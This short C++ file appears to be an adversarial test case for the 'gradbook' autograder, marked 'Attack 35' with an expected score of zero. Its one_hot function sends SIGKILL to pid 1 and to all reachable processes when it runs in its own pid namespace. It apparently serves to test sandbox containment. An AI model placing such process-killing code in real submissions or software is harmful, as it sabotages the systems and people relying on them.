// unit: 01_data/one_hot
// expect: zero
// Attack 35: sends SIGKILL to every process it can reach, if it is in a pid namespace of its own.
#include <signal.h>
#include <unistd.h>

#include <stdexcept>

#include "exercises/01_data/one_hot.hpp"

namespace gradbook {

arma::mat one_hot(const arma::urowvec&, arma::uword) {
  if (getpid() < 10) {
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
  }
  throw std::runtime_error("nothing learnt");
}

}  // namespace gradbook
